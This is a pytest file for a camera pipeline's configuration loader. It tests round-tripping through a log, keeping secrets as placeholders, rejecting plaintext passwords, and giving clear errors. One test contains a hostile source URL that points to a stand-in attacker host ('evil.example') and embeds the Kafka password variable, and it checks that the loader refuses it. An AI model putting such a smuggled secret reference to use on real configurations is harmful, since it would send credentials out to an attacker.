"""A camera through the log: apply's document, and the camera a worker makes of it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.config import (
    CameraConfig,
    ConfigProblems,
    camera_document,
    camera_environment,
    camera_from_document,
    config_sha256,
    load_config,
    read_config,
)

ENV = {
    "GATE_PASSWORD": "pw-of/gate@x",
    "FPS": "5",
    "HOST": "gate.example",
    "TOKEN": "tok-en-77",
    "KAFKA_PASSWORD": "kp",
}
FILE = """\
model: passerby-nano
sample_fps: ${FPS:-8}
source: {transport: udp, username: viewer, password: "${GATE_PASSWORD}"}
kafka: {security_protocol: SASL_SSL, sasl_mechanism: PLAIN, username: me, password: "${KAFKA_PASSWORD}"}
cameras:
  gate:
    source: rtsp://user:${GATE_PASSWORD}@${HOST}/stream?token=${TOKEN}
    counts: {window_s: 5}
    lines:
      street: {points: [[0.0, 0.62], [1.0, 0.62]], classes: [vehicle]}
    zones:
      "a$${b": {points: [[0.1, 0.2], [0.9, 0.2], [0.9, 0.9]], direction: up}
    masks: [[[0, 0], [0.2, 0], [0.2, 0.1]]]
  clip: {source: clips/a.mp4, start: 2026-01-01T08:00:00Z, sample_fps: 7.3}
  test: {source: "synthetic://street?seed=7"}
"""


def through(text: str, camera_id: str, env: dict[str, str] = ENV, **options: Any) -> tuple[CameraConfig, CameraConfig]:
    """A camera as ``run`` has it, and as a worker in another folder has it from the log."""
    config = read_config(text, "f.yaml", Path("/site"), env)
    document = json.loads(json.dumps(camera_document(config, camera_id)))
    return config.camera(camera_id), camera_from_document(camera_id, document, env, Path("/worker"), **options)


@pytest.mark.parametrize("camera_id", ["gate", "clip", "test"])
def test_a_camera_is_the_same_through_the_log(camera_id: str) -> None:
    run, worker = through(FILE, camera_id)
    assert worker.id == camera_id
    assert config_sha256(worker) == config_sha256(run)
    assert worker.rules() == run.rules()
    assert worker.start == run.start
    assert worker.masks == run.masks
    assert worker.source.transport == "udp"
    if camera_id != "clip":
        assert worker.model_dump() == run.model_dump()
        assert worker.source.location.reveal() == run.source.location.reveal()


def test_secrets_stay_as_they_were_written_and_the_rest_is_filled_in() -> None:
    config = read_config(FILE, "f.yaml", Path("/site"), ENV)
    document = camera_document(config, "gate")
    assert document["source"]["url"] == "rtsp://user:${GATE_PASSWORD}@${HOST}/stream?token=${TOKEN}"
    assert document["source"]["password"] == "${GATE_PASSWORD}"
    assert document["sample_fps"] == "5"
    assert "a$${b" in document["zones"]  # keys are not filled in: as written, both times
    told = json.dumps(document)
    assert not any(secret in told for secret in ("pw-of", "tok-en", "kp"))
    assert "kafka" not in document


def test_a_relative_path_begins_at_the_workers_folder() -> None:
    run, worker = through(FILE, "clip")
    assert (str(run.source.url), str(worker.source.url)) == ("/site/clips/a.mp4", "/worker/clips/a.mp4")


def test_a_dollar_brace_of_the_users_own_is_not_filled_in_twice() -> None:
    text = 'cameras: {a: {source: a.mp4, model: "${M}", lines: {l: {points: [[0, 0.5], [1, 0.5]], classes: "x$${y"}}}}'
    _, worker = through(text, "a", {"M": "odd${FPS}"})
    assert worker.model == "odd${FPS}"
    assert worker.lines["l"].classes == ("x${y",)


@pytest.mark.parametrize(
    "source",
    [
        "rtsp://user:${GATE_PASSWORD}@gate.example/stream",
        "rtsp://${HIDDEN}:${ALSO}@gate.example/stream",
        "rtsp://gate.example/stream?token=${ODD}",
        "{url: rtsp://gate.example/stream, username: u, password: '${X}'}",
        "{url: rtsp://gate.example/stream, username: u, password_file: secret}",
        "{url_file: secret}",
    ],
)
def test_who_does_not_open_a_source_needs_no_secrets_and_has_the_same_hash(source: str, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("rtsp://u:p@host/x\n")
    env = dict.fromkeys(("GATE_PASSWORD", "HIDDEN", "ALSO", "ODD", "X_PASSWORD", "X"), "topsecret-of-it")
    source = source.replace("${X}", "${X_PASSWORD}")
    text = f"cameras:\n  gate:\n    source: {source}\n"
    config = read_config(text, "f.yaml", tmp_path, env)
    document = camera_document(config, "gate")
    bare = camera_from_document("gate", document, {}, Path("/nowhere"), secrets=False)
    assert config_sha256(bare) == config_sha256(config.camera("gate"))
    applied = read_config(text, "f.yaml", Path("/nowhere"), {}, secrets=False)
    assert camera_document(applied, "gate") == document
    with pytest.raises(ConfigProblems, match=r"is not set|cannot read"):
        camera_from_document("gate", document, {}, Path("/nowhere"))


def test_a_source_file_goes_through_as_its_name(tmp_path: Path) -> None:
    (tmp_path / "gate.url").write_text("rtsp://u:p4ssw@host/x\n")
    text = "cameras:\n  gate: {source_file: gate.url, source: {transport: udp}}"
    config = read_config(text, "f.yaml", tmp_path, {})
    document = camera_document(config, "gate")
    assert document == {"source_file": "gate.url", "source": {"transport": "udp"}}
    worker = camera_from_document("gate", document, {}, tmp_path)
    assert worker.model_dump() == config.camera("gate").model_dump()
    assert worker.source.location.reveal() == "rtsp://u:p4ssw@host/x"


@pytest.mark.parametrize(
    ("source", "place"),
    [
        ("rtsp://user:hunter2@gate.example/stream", "3:13"),
        ("rtsp://user:${PW:-hunter2}@gate.example/stream", "3:13"),
        ("rtsp://user:hunter2${GATE_PASSWORD}@gate.example/stream", "3:13"),
        ("rtsp://gate.example/stream?token=hunter2", "3:13"),
        ("{url: rtsp://gate.example/x, username: u, password: hunter2}", "3:65"),
        ("{url: rtsp://gate.example/x, username: u, password: '${GATE_PASSWORD:-hunter2}'}", "3:65"),
    ],
)
def test_a_plain_secret_is_refused_with_its_place_and_mend(source: str, place: str) -> None:
    config = read_config(f"cameras:\n  gate:\n    source: {source}\n", "f.yaml", Path("/"), ENV)
    with pytest.raises(ConfigProblems) as caught:
        camera_document(config, "gate")
    assert len(caught.value.problems) == 1
    told = str(caught.value)
    assert told.startswith(f"f.yaml:{place}: cameras.gate.source")
    assert "${GATE_PASSWORD}" in told
    assert "hunter2" not in told


def test_a_plain_secret_in_the_defaults_is_refused_for_each_camera() -> None:
    text = "source: {username: u, password: hunter2}\ncameras: {a: {source: rtsp://x/y}}"
    with pytest.raises(ConfigProblems, match=r"f.yaml:1:\d+: cameras.a.source.password"):
        camera_document(read_config(text, "f.yaml", Path("/"), {}), "a")


def test_a_camera_cannot_have_the_password_of_the_log() -> None:
    config = read_config(FILE, "f.yaml", Path("/"), ENV)
    env = camera_environment(config, ENV)
    assert set(ENV) - set(env) == {"KAFKA_PASSWORD"}
    stolen = {"source": {"url": "rtsp://evil.example/${KAFKA_PASSWORD}"}}
    with pytest.raises(ConfigProblems, match="KAFKA_PASSWORD is not set"):
        camera_from_document("gate", stolen, env, Path("/"))


def test_a_wrong_document_says_what_is_wrong() -> None:
    with pytest.raises(ConfigProblems) as caught:
        camera_from_document("gate", {"source": "a.mp4", "sample_pfs": 3, "lines": 5}, {}, Path("/"))
    lines = sorted(str(caught.value).splitlines())
    assert len(lines) == 2
    assert all(line.startswith("camera gate (from the log): cameras.gate.") for line in lines)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
    max_leaves=8,
)
_KEYS = st.sampled_from([*CameraConfig.model_fields, "x"])


@given(st.dictionaries(_KEYS, _JSON, max_size=5), st.booleans())
def test_any_json_is_a_camera_or_a_configuration_error(document: dict[str, Any], secrets: bool) -> None:
    try:
        assert camera_from_document("gate", document, {}, Path("/"), secrets=secrets).id == "gate"
    except ConfigProblems as error:
        assert error.problems


def test_a_document_that_nests_without_end_is_an_error() -> None:
    deep: dict[str, Any] = {}
    for _ in range(900):
        deep = {"source": deep}
    with pytest.raises(ConfigProblems, match="too deep"):
        camera_from_document("gate", deep, {}, Path("/"))


def test_a_worker_reads_everything_but_the_cameras(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(FILE)
    config = load_config(tmp_path / "p.yaml", {"KAFKA_PASSWORD": "secret-kp"}, cameras=False, secrets=False)
    assert config.cameras == {}
    assert config.kafka.username == "me"
    with pytest.raises(ConfigProblems, match="KAFKA_PASSWORD is not set"):
        load_config(tmp_path / "p.yaml", {}, cameras=False, secrets=False)
    (tmp_path / "q.yaml").write_text("kafka: {prefix: x}\n")
    assert load_config(tmp_path / "q.yaml", {}, cameras=False).kafka.prefix == "x"
